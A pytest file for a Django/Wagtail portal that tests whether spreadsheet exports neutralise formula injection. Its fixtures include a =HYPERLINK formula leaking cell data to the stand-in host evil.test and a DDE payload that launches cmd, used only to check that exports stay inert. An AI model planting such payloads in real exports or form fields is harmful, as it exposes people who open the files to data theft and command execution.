"""Spreadsheet exports cannot carry a formula (review item 2): the attendee CSV, the search-terms report, and every
Wagtail admin export, all through portal.exports."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse

from cop.models import MemberProfile
from portal.exports import csv_lines, safe_cell, xlsx_response
from tests.cop.test_events import make_event, post_as
from tests.meritopedia.test_articles import make_article

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&B2,"x")'
DDE = "+cmd|' /C calc'!A0"


def _csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _runs(cell: str) -> bool:
    """Whether a spreadsheet would evaluate this CSV cell."""
    return cell.lstrip("\t\r\n").startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "＝"])
def test_a_cell_starting_like_a_formula_is_kept_as_text(start):
    assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell("Budi = 1") == "Budi = 1" and safe_cell(-3) == -3 and safe_cell(None) is None


def test_the_csv_writer_and_the_xlsx_writer_neutralise_every_cell():
    rows = list(csv.reader(io.StringIO("".join(csv_lines(["=Nama"], [[HYPERLINK], [DDE]])).lstrip("\ufeff"))))
    assert rows == [["'=Nama"], ["'" + HYPERLINK], ["'" + DDE]]
    response = xlsx_response("x.xlsx", [("Lembar", ["Nama"], [[HYPERLINK], [DDE], [12.5]])])
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert [cell.value for cell in cells] == [HYPERLINK, DDE, 12.5]
    assert [cell.data_type for cell in cells] == ["s", "s", "n"]


def test_a_members_formula_name_is_inert_in_the_attendee_csv(client):
    event = make_event(capacity=5)
    users = []
    for name, full_name in (("penyusup", HYPERLINK), ("korban", "Korban Biasa")):
        user = get_user_model().objects.create_user(name, f"{name}@contoh.go.id", "rahasia-123")
        MemberProfile.objects.create(user=user, full_name=full_name)
        post_as(client, user, f"/akun/acara/{event.pk}/daftar/")
        users.append(user)
    client.force_login(get_user_model().objects.create_superuser("editor-csv", "e@kasn.go.id", "x"))
    rows = _csv(client.get(f"/admin/acara/{event.pk}/peserta/?format=csv"))
    assert "'" + HYPERLINK in [row[0] for row in rows]
    assert not [cell for row in rows for cell in row if _runs(cell)]


def test_searches_typed_as_formulas_are_inert_in_the_search_terms_report(client):
    for q in (HYPERLINK, DDE, "-2+3", "@SUM(A1)"):
        client.get(reverse("api_search"), {"q": q})
    client.force_login(get_user_model().objects.create_superuser("kepala-csv", "k@kasn.go.id", "x"))
    rows = _csv(client.get(reverse("search_queries_report"), {"export": "csv"}))
    assert len(rows) > 1
    assert not [cell for row in rows for cell in row if _runs(cell)]
    xlsx = client.get(reverse("search_queries_report"), {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_wagtails_own_admin_exports_go_through_the_cell_guard(client):
    """The site-history report is Wagtail's code: this fails if Wagtail stops passing cells through
    SpreadsheetExportMixin.preprocess_field_value, which portal.apps guards."""
    article = make_article("Judul formula")
    article.title = HYPERLINK
    article.save_revision(log_action=True).publish()
    client.force_login(get_user_model().objects.create_superuser("kepala-ekspor", "ke@kasn.go.id", "x"))
    rows = _csv(client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"}))
    assert "'" + HYPERLINK in [row[1] for row in rows if len(row) > 1]
    assert not [cell for row in rows for cell in row if _runs(cell)]
